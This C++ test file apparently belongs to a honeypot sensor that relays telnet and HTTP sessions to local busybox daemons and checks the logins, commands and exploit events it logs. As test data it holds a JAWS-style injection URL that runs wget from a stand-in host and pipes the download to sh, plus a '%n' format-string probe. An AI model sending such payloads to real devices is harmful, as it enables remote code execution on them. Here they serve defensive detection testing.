// Telnet and HTTP relayed to local real daemons — busybox telnetd with a fixed login in front of
// a canned device shell, and busybox httpd — give the same event kinds as emulated personas.
// The "device" shell answers from a table: nothing the client sends is executed.

#include <fmt/format.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <fstream>
#include <thread>

#include "sensor/runtime/sensor_test_fixture.h"
#include "testing/samba_server.h"
#include "testing/subprocess.h"
#include "testing/temp_dir.h"

namespace mitsu::sensor {
namespace {

using mitsu::testing::run_process;
using namespace std::chrono_literals;

class RealDevices : public SensorTest {
 protected:
  RealDevices() : SensorTest("real-devices") {}

  void start(const std::string& protocol, int device_port) {
    DevicePersona p;
    p.name = "nas";
    p.device_type = "nas";
    p.vendor = "V";
    p.model = "M";
    options_.personas = {p};
    ListenerSpec spec{protocol, "127.0.0.1", 0, 0};
    spec.backend = fmt::format("127.0.0.1:{}", device_port);
    options_.listeners = {spec};
    options_.recordings_dir = dir_.path() / "recordings";
    auto rules = ExploitRules::load({MITSU_DEFAULT_EXPLOITS_DIR});
    ASSERT_TRUE(rules) << rules.error();
    options_.exploits = *rules;
    start_sensor();
  }
  // Debian's busybox has no telnetd; scripts/install-deps.sh unpacks the static build here.
  static std::string busybox_static() {
    const char* path = std::getenv("MITSU_BUSYBOX_STATIC");
    return path != nullptr ? path : "/var/cache/mitsu-tools/busybox-static/bin/busybox";
  }
};

TEST_F(RealDevices, TelnetThroughBusyboxTelnetdGivesLoginsAndCommands) {
  auto login = dir_.path() / "login.sh";
  std::ofstream(login)
      << "#!/bin/sh\n"
         "printf 'nas login: '; read u\n"
         "printf 'Password: '; read p\n"
         "if [ \"$u\" != root ] || [ \"$p\" != admin ]; then\n"
         "  printf 'Login incorrect\\n'; exit 1\n"
         "fi\n"
         "printf '\\nBusyBox v1.30.1 built-in shell (ash)\\n\\n'\n"
         "while printf '# '; read line; do\n"
         "  case \"$line\" in exit) exit 0;; *) printf '%s: canned\\n' \"$line\";; "
         "esac\n"
         "done\n";
  ::chmod(login.c_str(), 0755);
  int device_port = mitsu::testing::free_tcp_port();
  mitsu::testing::ChildProcess telnetd(
      {busybox_static(), "telnetd", "-F", "-p", std::to_string(device_port), "-l", login.string()});
  ASSERT_TRUE(mitsu::testing::wait_for_tcp_port(device_port));
  start("telnet", device_port);
  auto session = run_process(
      {"sh", "-c",
       fmt::format("(sleep 0.5; printf 'root\\n'; sleep 0.4; printf 'admin\\n'; sleep 0.4; "
                   "printf 'uname -a\\n'; sleep 0.4; printf 'exit\\n'; sleep 0.5) | "
                   "telnet 127.0.0.1 {}",
                   port_)});
  EXPECT_NE(session.out.find("uname -a: canned"), std::string::npos) << session.out;
  ASSERT_TRUE(sink_.wait_for("session.close", 1));
  auto logins = sink_.of("login.attempt");
  ASSERT_EQ(logins.size(), 1u);
  EXPECT_EQ(logins[0]["user"]["name"], "root");
  EXPECT_EQ(logins[0]["mitsu"]["login"]["password"], "admin");
  EXPECT_EQ(logins[0]["event"]["outcome"], "success");
  auto commands = sink_.of("command");
  ASSERT_GE(commands.size(), 1u);
  EXPECT_EQ(commands[0]["process"]["command_line"], "uname -a");
  telnetd.send_signal(SIGTERM);
}

TEST_F(RealDevices, HttpThroughBusyboxHttpdGivesRequestsExploitsAndLogins) {
  auto root = dir_.path() / "www";
  std::filesystem::create_directories(root);
  std::ofstream(root / "index.html") << "<html><title>NAS</title></html>\n";
  int device_port = mitsu::testing::free_tcp_port();
  mitsu::testing::ChildProcess httpd({"busybox", "httpd", "-f", "-p",
                                      fmt::format("127.0.0.1:{}", device_port), "-h",
                                      root.string()});
  ASSERT_TRUE(mitsu::testing::wait_for_tcp_port(device_port));
  start("http", device_port);
  auto page = run_process({"curl", "-sS", "--max-time", "10", "-u", "admin:admin",
                           fmt::format("http://127.0.0.1:{}/", port_)});
  EXPECT_NE(page.out.find("<title>NAS</title>"), std::string::npos) << page.err;
  auto jaws = run_process(
      {"curl", "-sS", "--max-time", "10", "-o", "/dev/null",
       fmt::format("http://127.0.0.1:{}/shell?cd+/tmp;wget+http://192.0.2.7/jaws;sh+/tmp/jaws",
                   port_)});
  EXPECT_EQ(jaws.exit_code, 0) << jaws.err;
  ASSERT_TRUE(sink_.wait_for("session.close", 2));
  EXPECT_EQ(sink_.of("http.request").size(), 2u);
  auto logins = sink_.of("login.attempt");
  ASSERT_EQ(logins.size(), 1u);
  EXPECT_EQ(logins[0]["mitsu"]["login"]["method"], "basic");
  EXPECT_EQ(logins[0]["event"]["outcome"], "success");
  auto exploits = sink_.of("exploit");
  ASSERT_EQ(exploits.size(), 1u);
  auto commands = sink_.of("command");
  ASSERT_EQ(commands.size(), 1u);
  EXPECT_NE(
      commands[0]["process"]["command_line"].get<std::string>().find("wget http://192.0.2.7/jaws"),
      std::string::npos)
      << commands[0].dump();
  EXPECT_TRUE(sink_.of("file.download").empty()) << "the device, not Mitsu, would fetch it";
  httpd.send_signal(SIGTERM);
}

// A device that dies after a session no signature knew: when the next attacker finds it down,
// that session becomes a zero-day candidate.
TEST_F(RealDevices, ADeviceThatStopsAnsweringAfterASessionMakesItACandidate) {
  int device_port = mitsu::testing::free_tcp_port();
  int listener = ::socket(AF_INET, SOCK_STREAM, 0);
  int one = 1;
  ::setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(static_cast<std::uint16_t>(device_port));
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(::bind(listener, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
  ASSERT_EQ(::listen(listener, 4), 0);
  // The "device": answers one request, then is gone.
  std::thread device([listener] {
    int fd = ::accept(listener, nullptr, nullptr);
    char buffer[4096];
    (void)::read(fd, buffer, sizeof buffer);
    std::string answer = "HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok";
    (void)::write(fd, answer.data(), answer.size());
    ::close(fd);
    ::close(listener);
  });
  start("http", device_port);
  auto first = run_process({"curl", "-sS", "--max-time", "10",
                            fmt::format("http://127.0.0.1:{}/goform/setSysAdm?x=%25n%25n", port_)});
  EXPECT_EQ(first.out, "ok") << first.err;
  device.join();
  ASSERT_TRUE(sink_.wait_for("session.close", 1));
  std::string suspect = sink_.of("session.close")[0]["mitsu"]["session"]["id"];
  auto second =
      run_process({"curl", "-sS", "--max-time", "10", fmt::format("http://127.0.0.1:{}/", port_)});
  EXPECT_NE(second.exit_code, 0) << "a dead device looks like a closed port";
  ASSERT_TRUE(sink_.wait_for("zero_day_candidate", 1));
  auto candidate = sink_.of("zero_day_candidate")[0];
  EXPECT_EQ(candidate["mitsu"]["zero_day"]["reason"], "device_stopped_answering");
  EXPECT_EQ(candidate["mitsu"]["session"]["id"], suspect);
  EXPECT_EQ(candidate["mitsu"]["zero_day"]["requests"][0], "http GET /goform/setSysAdm?x=%25n%25n");
  EXPECT_EQ(sink_.of("device.down").size(), 1u);
}

}  // namespace
}  // namespace mitsu::sensor
